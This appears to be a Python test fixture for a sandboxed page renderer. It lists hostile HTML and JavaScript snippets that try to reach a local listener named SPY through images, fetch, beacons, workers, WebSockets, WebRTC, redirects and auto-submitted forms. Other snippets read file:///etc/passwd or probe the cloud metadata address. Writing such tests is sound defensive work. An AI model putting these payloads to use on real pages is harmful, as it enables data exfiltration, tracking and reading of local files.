"""Pages that try to reach somebody: what each puts after its own words. SPY is a listener on this machine."""

HOSTILE = {
    "an image elsewhere": '<img src="http://SPY/a.png"><img src="http://other.example/red.png"><img src="http://169.254.169.254/latest/">',
    "a style, a script and a frame elsewhere": (
        '<link rel=stylesheet href="http://SPY/a.css"><script src="http://SPY/a.js"></script><iframe src="http://SPY/frame"></iframe>'
    ),
    "connections made in advance": (
        '<link rel=preconnect href="http://SPY/"><link rel=dns-prefetch href="//SPY/"><link rel=prefetch href="http://SPY/p">'
        '<link rel=preload as=image href="http://SPY/q.png">'
    ),
    "speculation": '<script type=speculationrules>{"prefetch":[{"urls":["http://SPY/s"],"eagerness":"immediate"}],'
    '"prerender":[{"urls":["/next"],"eagerness":"immediate"}]}</script>',
    "a request by script": '<script>fetch("http://SPY/x",{mode:"no-cors"});navigator.sendBeacon("http://SPY/b","x")</script>',
    "a request to its own host that would change something": '<script>fetch("/comments",{method:"POST",body:"x"})</script>',
    "a worker": (
        """<script>new Worker(URL.createObjectURL(new Blob(["fetch('http://SPY/w',{mode:'no-cors'});importScripts('http://SPY/i.js')"])))"""
        "</script>"
    ),
    "a shared worker": """<script>new SharedWorker("data:text/javascript,fetch('http://SPY/w',{mode:'no-cors'})")</script>""",
    "a service worker": '<script>navigator.serviceWorker.register("/worker.js")</script>',
    "a websocket": '<script>new WebSocket("ws://SPY/");new WebSocket("ws://paper.example/live");new EventSource("http://SPY/e")</script>',
    "a call": (
        '<script>const call=new RTCPeerConnection({iceServers:[{urls:"stun:SPY"},{urls:"turn:SPY?transport=tcp",username:"a",'
        'credential:"b"}]});call.createDataChannel("x");call.createOffer().then(offer=>call.setLocalDescription(offer))</script>'
    ),
    "a transport": '<script>try{new WebTransport("https://SPY/")}catch(error){}</script>',
    "a refresh to elsewhere": '<meta http-equiv=refresh content="0;url=http://SPY/r">',
    "a refresh to another page of its own": '<meta http-equiv=refresh content="0;url=/another">',
    "a script that leaves": '<script>location.href="http://SPY/n"</script>',
    "a script that leaves later": '<script>setTimeout(()=>location.replace("http://SPY/n"),50)</script>',
    "a form that sends itself": '<form id=f method=post action="http://SPY/f"></form><script>f.submit()</script>',
    "new windows": '<script>window.open("http://SPY/o");window.open("/window")</script>',
    "dialogs": '<script>alert("x");confirm("y");prompt("z");print()</script>',
    "downloads": (
        '<a id=d download=x href="data:text/plain,hello"></a><a id=e download href="/big.zip"></a><script>d.click();e.click()</script>'
    ),
    "files of this machine": '<iframe src="file:///etc/passwd"></iframe><script>try{location="file:///etc/passwd"}catch(error){}</script>',
    "lies about its size": (
        '<script>Object.defineProperty(Element.prototype,"scrollHeight",{get(){return 1e9}});requestAnimationFrame=()=>{};'
        'Object.defineProperty(Document.prototype,"fonts",{get(){return {ready:new Promise(()=>{})}}})</script>'
    ),
}
REACHING = ("an image elsewhere", "a websocket", "a call", "a refresh to elsewhere", "connections made in advance")
"""Those that an unguarded browser on this machine is shown with, to see that the listener hears."""
